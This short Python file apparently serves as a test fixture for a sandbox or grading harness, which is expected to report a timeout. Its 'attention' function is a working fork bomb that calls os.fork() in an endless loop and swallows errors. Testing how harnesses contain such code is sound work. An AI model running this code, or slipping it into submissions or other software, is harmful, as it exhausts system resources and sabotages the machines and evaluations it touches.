"""Fork bomb: attention forks until the process limit refuses, forever; every child does the same."""
EXPECT = {"attention_sdpa": "timeout"}
import os as _os


def attention(q, k, v, mask=None):
    while True:
        try:
            _os.fork()
        except OSError:
            pass
